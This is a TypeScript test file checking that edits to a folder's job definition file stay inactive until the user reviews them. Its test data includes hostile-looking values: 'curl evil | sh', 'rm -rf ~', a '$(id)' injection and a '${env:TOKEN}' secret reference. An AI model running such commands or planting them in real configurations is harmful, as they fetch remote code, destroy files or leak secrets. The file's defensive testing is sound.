import assert from 'node:assert/strict';
import { mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, it } from 'mocha';
import { DefinitionsBench } from './bench.ts';

describe('the definition file of a folder', () => {
  let bench: DefinitionsBench;
  beforeEach(async () => {
    bench = await DefinitionsBench.open();
  });
  afterEach(() => bench.end());

  const job = { command: 'make', schedule: '@daily', cwd: '.', env: { A: '1' }, inputs: [{ id: 'x', default: 'y' }] };
  const first = { jobs: { nightly: job }, queues: { cpu: { concurrency: 2 } } };
  const schedules = () => bench.schedules.defined.get(bench.appFile) ?? [];
  const crons = () => schedules().map(({ cron }) => cron);
  const file = () => bench.definitions.list().files.find(({ path }) => path === bench.appFile);
  const added = async (content: object = first) => {
    bench.write(bench.appFile, content);
    await bench.definitions.start();
    await bench.definitions.add(bench.app);
  };
  /** Changes the file and waits until that is pending. Returns the changes. */
  const pendingAfter = async (content: object | string) => {
    const [warning] = await bench.warned(() => bench.write(bench.appFile, content));
    assert.equal(warning, `${bench.appFile} has changed. Its changes are inactive until you review them.`);
    return file()?.pending?.changes ?? [];
  };

  const changes: [string, object][] = [
    ['command', { ...job, command: 'make; curl evil | sh' }],
    ['schedule', { ...job, schedule: '@hourly' }],
    ['schedule', { ...job, schedule: { cron: '@daily', catchUp: 'all' } }],
    ['env', { ...job, env: { A: '2' } }],
    ['cwd', { ...job, cwd: '/tmp' }],
    ['inputs', { ...job, inputs: [{ id: 'x', default: '$(id)' }] }],
    ['queue', { ...job, queue: 'cpu' }],
    ['retry', { ...job, retry: { attempts: 9 } }],
    ['timeLimit', { ...job, timeLimit: '1s' }],
    ['group', { ...job, group: 'x' }],
    ['label', { ...job, label: '${env:TOKEN}' }],
  ];
  for (const [field, changed] of changes) {
    it(`keeps its active version when it changes ${field}: ${JSON.stringify(changed).slice(0, 40)}`, async () => {
      await added();
      const calls = bench.schedules.calls;
      const [change] = await pendingAfter({ ...first, jobs: { nightly: changed } });
      assert.deepEqual(
        [change?.kind, change?.name, change?.change, change?.fields.map((one) => one.field)],
        ['job', 'nightly', 'changed', [field]],
      );
      assert.deepEqual([bench.schedules.calls, crons()], [calls, ['@daily']]);
      await bench.restart();
      assert.deepEqual([bench.schedules.calls, file()?.pending?.changes.length], [calls, 1]);
    });
  }

  it('keeps it when jobs or queues are added or removed, and shows what would change', async () => {
    await added();
    const found = await pendingAfter({
      jobs: { evil: { command: 'rm -rf ~', schedule: '* * * * * *' } },
      queues: { cpu: { concurrency: 1 } },
    });
    assert.deepEqual(found, [
      { kind: 'queue', name: 'cpu', change: 'changed', fields: [{ field: 'concurrency', before: '2', after: '1' }] },
      {
        kind: 'job',
        name: 'evil',
        change: 'added',
        fields: [
          { field: 'command', before: null, after: '"rm -rf ~"' },
          { field: 'schedule', before: null, after: '"* * * * * *"' },
        ],
      },
      found[2],
    ]);
    assert.deepEqual([found[2]?.name, found[2]?.change], ['nightly', 'removed']);
    assert.deepEqual([crons(), bench.concurrency('cpu')], [['@daily'], 2]);
  });

  it('activates its changes once the user agrees to exactly these', async () => {
    await added();
    await pendingAfter({ ...first, jobs: { nightly: { ...job, schedule: '@hourly' } } });
    const digest = file()?.pending?.digest;
    bench.write(bench.appFile, { ...first, jobs: { nightly: { ...job, schedule: '@weekly' } } });
    await assert.rejects(bench.definitions.add(bench.app, digest), { code: 'DEFINITION_CHANGED' });
    assert.deepEqual(crons(), ['@daily']);
    bench.write(bench.appFile, { ...first, jobs: { nightly: { ...job, schedule: '@hourly' } } });
    assert.equal((await bench.definitions.add(bench.app, digest)).pending, null);
    assert.deepEqual([crons(), bench.warnings.list()], [['@hourly'], []]);
  });

  it('is active again without asking when its branch is, and a restored file with agreed content too', async () => {
    await added();
    await pendingAfter({ ...first, jobs: {} });
    assert.deepEqual(await bench.warned(() => bench.write(bench.appFile, first)), []);
    assert.deepEqual(crons(), ['@daily']);
    bench.write(bench.appFile, { ...first, jobs: { nightly: { ...job, schedule: '@hourly' } } });
    await bench.definitions.add(bench.app);
    await bench.defined(() => bench.write(bench.appFile, first));
    assert.deepEqual(crons(), ['@daily']);
    await bench.warned(() => rmSync(bench.appFile));
    assert.deepEqual(crons(), []);
    await bench.warned(() => bench.write(bench.appFile, first));
    assert.deepEqual(crons(), ['@daily']);
    await bench.warned(() => rmSync(bench.appFile));
    await pendingAfter({ ...first, jobs: { evil: job } });
    assert.deepEqual(crons(), []);
  });

  it('is judged by its content when it is a link or replaced by one, and another folder’s copy is not active', async () => {
    await added();
    const other = join(bench.app, 'other.json');
    writeFileSync(other, JSON.stringify({ ...first, jobs: { evil: job } }));
    await bench.warned(() => {
      symlinkSync(other, `${bench.appFile}.link`);
      renameSync(`${bench.appFile}.link`, bench.appFile);
    });
    assert.deepEqual([crons(), file()?.pending?.changes.length], [['@daily'], 2]);
    const copy = join(dirname(bench.app), 'copy', '.vscode', 'jobs.json');
    mkdirSync(dirname(copy), { recursive: true });
    bench.write(copy, first);
    await bench.restart();
    assert.equal(bench.schedules.defined.has(copy), false);
  });

  it('needs no review if only comments, order and looks change', async () => {
    await added();
    const calls = bench.schedules.calls;
    await bench.jobs.jobs.queues.set('cpu', { concurrency: 7 });
    const { inputs: _, ...rest } = job;
    const same = {
      queues: first.queues,
      jobs: {
        nightly: {
          icon: 'beaker',
          color: 'charts.red',
          label: 'Nightly',
          links: [],
          notifications: 'all',
          messages: {},
          inputs: [{ default: 'y', description: 'Why', id: 'x' }],
          ...rest,
        },
      },
    };
    await bench.defined(() => bench.write(bench.appFile, `// A comment\n${JSON.stringify(same, null, 4)}`));
    assert.deepEqual([bench.schedules.calls, crons(), file()?.pending], [calls + 1, ['@daily'], null]);
    assert.equal(schedules()[0]?.job.title, 'Nightly');
    assert.equal(bench.concurrency('cpu'), 7, 'what was changed since is kept');
  });

  it('that is invalid is reported as that, also while a change is pending', async () => {
    await added();
    await pendingAfter({ ...first, jobs: {} });
    const warnings = await bench.warned(() => bench.write(bench.appFile, '{'));
    assert.ok(warnings.every((one) => !one.includes('has changed')) && warnings.length === 1, warnings.join('\n'));
    assert.deepEqual(crons(), ['@daily']);
  });

  it('that an earlier version added is agreed to as it is active', async () => {
    await bench.jobs.store.write((tx) => {
      tx.putQueue({
        name: 'cpu',
        concurrency: 2,
        rateCount: null,
        ratePeriodMs: null,
        paused: 0,
        timeLimitMs: null,
        cancelAllowed: 1,
        retryAllowed: 1,
        source: null,
      });
      tx.putDefinitionFile({ path: bench.appFile, workspace: bench.app, addedAt: 1, text: JSON.stringify(first) });
    });
    bench.write(bench.appFile, { ...first, jobs: {} });
    await bench.definitions.start();
    assert.equal(file()?.pending?.changes.length, 1);
    await bench.definitions.add(bench.app);
    assert.equal(file()?.pending, null);
    await bench.defined(() => bench.write(bench.appFile, first));
    await bench.definitions.remove(bench.app);
    assert.equal(bench.concurrency('cpu'), undefined, 'its queue is its own');
  });
});

describe('the queues of a folder', () => {
  let bench: DefinitionsBench;
  beforeEach(async () => {
    bench = await DefinitionsBench.open();
    await bench.definitions.start();
  });
  afterEach(() => bench.end());

  const refused = async (queues: object, problem: RegExp) => {
    bench.write(bench.appFile, { queues });
    await assert.rejects(bench.definitions.add(bench.app), problem);
  };

  it('can’t change the default queue, or a queue of the user, the home or another folder', async () => {
    await refused({ default: { concurrency: 1 } }, /can’t change the queue “default”/);
    await bench.jobs.jobs.queues.set('mine', { concurrency: 3 });
    await refused({ mine: { concurrency: 1 } }, /“mine” already exists with other settings/);
    await bench.defined(() =>
      bench.write(bench.homeFile, { queues: { home: { concurrency: 3 }, default: { concurrency: 9 } } }),
    );
    await refused({ home: { concurrency: 1 } }, /“home” is already defined in .*home\/jobs\.json/);
    const other = join(dirname(bench.app), 'other', '.vscode', 'jobs.json');
    mkdirSync(dirname(other), { recursive: true });
    bench.write(other, { queues: { theirs: { concurrency: 3 } } });
    await bench.definitions.add(dirname(dirname(other)));
    await refused({ theirs: { concurrency: 1 } }, /“theirs” is already defined in .*other/);
    assert.deepEqual(
      ['default', 'mine', 'home', 'theirs'].map((name) => bench.concurrency(name)),
      [9, 3, 3, 3],
    );
    bench.write(bench.appFile, {
      queues: { mine: { concurrency: 3 }, theirs: {} },
      jobs: { a: { command: 'x', queue: 'mine', schedule: '@daily' } },
    });
    await bench.definitions.add(bench.app);
    await bench.definitions.remove(bench.app);
    assert.deepEqual(
      [bench.concurrency('mine'), bench.concurrency('theirs')],
      [3, 3],
      'the same settings share a queue',
    );
  });

  it('of the user stay when the home’s file sets them and no longer does', async () => {
    await bench.jobs.jobs.queues.set('mine', { concurrency: 3 });
    await bench.defined(() => bench.write(bench.homeFile, { queues: { mine: { concurrency: 5 }, own: {} } }));
    assert.deepEqual([bench.concurrency('mine'), bench.concurrency('own')], [5, null]);
    bench.write(bench.homeFile, '{');
    await bench.definitions.close();
    bench.write(bench.homeFile, { queues: {} });
    await bench.restart();
    assert.deepEqual([bench.concurrency('mine'), bench.concurrency('own')], [5, undefined]);
  });

  it('are removed with the file or its entry unless they are in use', async () => {
    bench.write(bench.appFile, { queues: { a: { concurrency: 1 }, b: { concurrency: 1 } } });
    await bench.definitions.add(bench.app);
    bench.write(bench.appFile, { queues: { b: { concurrency: 2 } } });
    await bench.definitions.add(bench.app);
    assert.deepEqual([bench.concurrency('a'), bench.concurrency('b')], [undefined, 2]);
    await bench.jobs.jobs.schedules.add({
      name: 'user',
      cron: '@daily',
      job: { command: { argv: ['x'] }, queue: 'b' },
    });
    await bench.definitions.remove(bench.app);
    assert.equal(bench.concurrency('b'), 2, 'a schedule of the user uses it');
    await refused({ b: { concurrency: 9 } }, /“b” already exists with other settings/);
  });
});
